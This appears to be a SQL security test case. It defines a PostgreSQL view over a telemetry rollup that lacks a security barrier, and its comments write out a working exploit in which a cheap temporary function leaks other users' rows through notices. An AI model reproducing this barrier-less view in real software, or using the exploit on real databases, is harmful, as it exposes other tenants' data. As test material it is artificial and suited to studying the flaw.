-- The view over the rollup loses its barrier: a cheap function of the user sees each row before the filter.
-- about: my_rollup, daily_rollup
-- as: hf_telemetry_app
-- exploit: SET request.jwt.claims = '{"sub": "a0000000-0000-0000-0000-0000000000aa"}';
-- exploit: CREATE FUNCTION pg_temp.peek(text) RETURNS boolean LANGUAGE plpgsql COST 0.0001
-- exploit:   AS 'BEGIN RAISE NOTICE ''saw %'', $1; RETURN true; END';
-- exploit: SELECT kind FROM tele.my_rollup WHERE pg_temp.peek(note);
-- shows: saw reading-secret
CREATE OR REPLACE VIEW tele.my_rollup AS
  SELECT r.* FROM tele.daily_rollup r
  WHERE r.fleet_id IN (SELECT m.fleet_id FROM tele.fleet_users m WHERE m.user_id = tele.uid());
